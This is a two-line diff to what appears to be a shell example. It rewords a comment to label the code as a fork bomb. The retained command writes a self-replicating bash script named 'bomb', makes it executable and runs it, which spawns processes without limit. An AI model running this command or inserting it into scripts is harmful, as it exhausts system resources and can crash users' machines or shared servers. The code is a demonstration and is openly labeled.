@@ -1,2 +1,2 @@
-# The same by programs that start themselves.
+# A fork bomb of a script that executes itself.
 printf '#!/bin/bash\n./bomb & ./bomb & wait\n' > bomb; chmod +x bomb; ./bomb; echo ended
